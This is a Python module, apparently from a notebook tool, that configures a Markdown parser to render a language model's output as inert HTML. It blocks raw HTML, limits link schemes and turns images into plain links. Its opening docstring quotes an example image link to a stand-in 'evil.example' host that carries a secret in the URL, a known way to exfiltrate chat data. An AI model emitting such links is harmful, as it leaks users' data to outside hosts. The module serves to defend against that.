"""The one configuration of the Markdown parser: it turns a model's text into HTML that can do nothing but show.

The text is hostile by rule. No raw HTML, three link schemes, and nothing that a browser would load by itself: an image
becomes a link, since `![](https://evil.example/?secret)` is the classic way to carry data out of a chat.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Sequence
from functools import partial
from html import escape
from typing import Any, cast
from urllib.parse import urlsplit

from markdown_it import MarkdownIt
from markdown_it.common.utils import escapeHtml
from markdown_it.renderer import RendererHTML
from markdown_it.rules_core import StateCore, linkify
from markdown_it.token import Token
from mdit_py_plugins.footnote import footnote_plugin

from nbclaude.quiet import quietly
from nbclaude.render.alerts import alerts_plugin
from nbclaude.render.block_cells import cell_classes
from nbclaude.render.bounds import bounds_plugin
from nbclaude.render.citations import Citations, citations_plugin, has_marks
from nbclaude.render.details import details_plugin
from nbclaude.render.dividing import divided
from nbclaude.render.highlight import CodeHighlighter
from nbclaude.render.inline_tags import inline_tags_plugin
from nbclaude.render.line_references import line_references_plugin
from nbclaude.render.links import address_alone, is_safe_link
from nbclaude.render.listing import Listing
from nbclaude.render.maths import maths_plugin
from nbclaude.render.nested_fences import nested_fences_plugin
from nbclaude.render.rows import rows_plugin
from nbclaude.render.scripts import scripts_plugin
from nbclaude.render.seams import seamed
from nbclaude.render.tasks import tasks_plugin

__all__ = ["build_parser", "code_block_html", "fences_of", "plain_text", "render_markdown"]

_LANGUAGE = re.compile(r"[^\s{}:,]+")


def build_parser(
    highlighter: CodeHighlighter | None = None,
    citations: Citations | None = None,
    macros: frozenset[str] = frozenset(),
    listing: Listing | None = None,
) -> MarkdownIt:
    """Build the parser; `highlighter` remembers the code blocks of one answer, `citations` are what its notes tell.

    `macros` are the notebook's own LaTeX macros (without a backslash) that formulas may use. `listing` is the code that the text
    refers to by the numbers of its lines.
    """
    # Models write verses, addresses and steps line by line, as chat pages show them; they do not wrap their paragraphs.
    options = {"linkify": True, "html": False, "typographer": False, "breaks": True}
    md = _Parser("js-default", options)
    # markdown-it's link rules ask this method; their own check lets data: images and relative addresses through.
    md.validateLink = is_safe_link  # type: ignore[method-assign]
    if md.linkify is not None:
        # "main.py" is a file, not a host in Paraguay.
        md.linkify.set({"fuzzy_link": False, "fuzzy_email": False, "fuzzy_ip": False})
        md.linkify.match_at_start = partial(_address_at_start, md.linkify.match_at_start)
        md.core.ruler.at("linkify", _linkify)
    md.use(footnote_plugin, inline=False).use(tasks_plugin).use(maths_plugin, macros)
    md.use(nested_fences_plugin).use(rows_plugin).use(alerts_plugin).use(scripts_plugin).use(
        inline_tags_plugin
    )
    md.use(details_plugin)
    if citations is not None:
        md.use(citations_plugin, citations)
    md.use(bounds_plugin)
    md.core.ruler.push("inside_links", _note_links)
    if listing is not None:
        md.use(line_references_plugin, listing)
    code = _CodeRules(highlighter or CodeHighlighter())
    rules = cast(dict[str, Any], cast(RendererHTML, md.renderer).rules)
    rules["text"] = _render_text
    rules["code_inline"] = _render_inline_code
    rules["fence"] = code.fence
    rules["code_block"] = _render_indented_code
    rules["image"] = _render_image
    rules["link_open"] = _render_link_open
    rules["table_open"] = _render_table_open
    rules["table_close"] = lambda *_: "</table></div>\n"
    # While an answer grows, a footnote's text stands where it was written; at the end all of them move to the foot.
    rules["footnote_reference_open"] = _render_footnote_draft
    rules["footnote_reference_close"] = lambda *_: "</div>\n"
    return md


def render_markdown(text: str, document_id: str = "") -> str:
    """Render a whole text at once. `document_id` keeps footnote anchors of different answers apart."""
    html: str = build_parser().render(divided(text), {"docId": document_id})
    return html


def fences_of(text: str) -> list[tuple[str, str]]:
    """Return the fenced code blocks of a text, also those inside lists and quotes: what stands after the fence, and the code."""
    parser = build_parser()
    parser.core.ruler.enableOnly(["normalize", "block"])
    return [(token.info, token.content) for token in parser.parse(text) if token.type == "fence"]


def plain_text(text: str) -> str:
    """Return the words of a Markdown text without its marks, for lists."""
    parser = build_parser()
    words = []
    for token in parser.parse(text):
        inner = token.children if token.children is not None else [token]
        words.append(
            "".join("\n" if each.type in ("softbreak", "hardbreak") else each.content for each in inner)
        )
    return "\n".join(word for word in words if word)


def _linkify(state: StateCore) -> None:
    """Look for addresses only where one can be: nearly every text has none."""
    if "//" in state.src or "mailto:" in state.src:
        linkify(state)


def _address_at_start(find: Callable[[str], Any], text: str) -> Any:
    found = find(text)
    if found is not None:
        found.url = address_alone(found.url)
    return found


def _note_links(state: StateCore) -> None:
    """Note of what must not be a link whether it stands in one: counted anew for each, the cost would be a square."""
    if "![" not in state.src and not has_marks(state.src):
        return
    for token in state.tokens:
        depth = 0
        for child in token.children or ():
            depth += {"link_open": 1, "link_close": -1}.get(child.type, 0)
            if child.type in ("image", "citation"):
                child.meta["inside_link"] = depth > 0


class _Parser(MarkdownIt):
    """The parser without its log: a line for each rule at each place of a text."""

    def parse(self, src: str, env: Any = None) -> list[Token]:
        with quietly("markdown_it"):
            return super().parse(src, env)


class _CodeRules:
    """Render rules for code blocks; a fence that has no end yet (`token.meta["open"]`) is still growing."""

    def __init__(self, highlighter: CodeHighlighter) -> None:
        self._highlighter = highlighter

    def fence(self, tokens: Sequence[Token], index: int, options: Any, env: Any) -> str:
        token = tokens[index]
        found = _LANGUAGE.match(token.info.strip())
        language = found.group() if found else ""
        render = self._highlighter.growing if token.meta.get("open") else self._highlighter.finished
        return code_block_html(render(token.content, language), language, token.content)


def _render_text(tokens: Sequence[Token], index: int, options: Any, env: Any) -> str:
    return seamed(escapeHtml(tokens[index].content))


def _render_inline_code(tokens: Sequence[Token], index: int, options: Any, env: Any) -> str:
    token = tokens[index]
    return f"<code{_attributes(token)}>{seamed(escapeHtml(token.content))}</code>"


def _render_indented_code(tokens: Sequence[Token], index: int, options: Any, env: Any) -> str:
    code = tokens[index].content
    return code_block_html(escape(code, quote=False), "", code)


def code_block_html(code_html: str, language: str, code: str) -> str:
    """Build a code block of HTML that is highlighted or escaped already; `code` is what it shows."""
    classes = f"code{cell_classes(language, code)}"
    if not language:
        return f'<div class="{classes}"><pre tabindex="0"><code>{code_html}</code></pre></div>\n'
    name = escape(language)
    shown = f'<code class="language-{name}">{code_html}</code>'
    # Who has no mouse scrolls a long line with the keys.
    return f'<div class="{classes}" data-language="{name}"><pre tabindex="0">{shown}</pre></div>\n'


def _render_table_open(tokens: Sequence[Token], index: int, options: Any, env: Any) -> str:
    direction = ' dir="rtl"' if tokens[index].attrGet("dir") == "rtl" else ""
    # A table that is wider than the page scrolls, also by the keys.
    return f'<div class="table" tabindex="0" role="group" aria-label="Table"{direction}><table{direction}>\n'


def _render_link_open(tokens: Sequence[Token], index: int, options: Any, env: Any) -> str:
    token = tokens[index]
    if not token.attrGet("href"):
        return "<a>"  # `[text]()` would lead to the page that it stands on
    if not str(token.attrGet("href")).startswith("#"):
        token.attrSet("target", "_blank")
        token.attrSet("rel", "noopener noreferrer nofollow")
    return f"<a{_attributes(token)}>"


def _attributes(token: Token) -> str:
    return "".join(f' {name}="{escape(str(value))}"' for name, value in token.attrs.items())


def _render_image(tokens: Sequence[Token], index: int, options: Any, env: Any) -> str:
    token = tokens[index]
    alt = "".join(child.content for child in token.children or ())
    url = str(token.attrGet("src") or "")
    label = f"image: {escape(alt)}" if alt else "image"
    if host := urlsplit(url).hostname:
        label += f" ({escape(host)})"
    if token.meta.get("inside_link") or not url:
        return f'<span class="image">{label}</span>'
    return f'<a class="image" href="{escape(url)}" target="_blank" rel="noopener noreferrer nofollow">{label}</a>'


def _render_footnote_draft(tokens: Sequence[Token], index: int, options: Any, env: Any) -> str:
    return f'<div class="footnote"><sup>[{escape(tokens[index].meta["label"])}]</sup>\n'
